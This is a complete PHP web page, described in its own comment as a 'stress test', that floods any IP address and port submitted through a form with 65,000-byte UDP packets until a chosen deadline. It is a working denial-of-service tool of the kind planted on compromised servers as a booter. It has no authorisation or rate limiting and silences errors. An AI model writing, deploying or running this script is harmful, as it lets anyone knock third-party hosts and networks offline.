<?php
// A "stress test" page: one UDP socket to the address the form names, then packets until the
// deadline, nothing ever read back.
@set_time_limit(0);
$host = $_POST['ip'];
$port = (int) $_POST['port'];
$until = time() + (int) $_POST['seconds'];
$sock = @fsockopen('udp://' . $host, $port, $errno, $errstr, 5);
$packet = str_repeat(chr(255), 65000);
$sent = 0;
while (time() < $until) {
    @fwrite($sock, $packet);
    $sent++;
}
echo 'done: ' . $sent . ' packets';
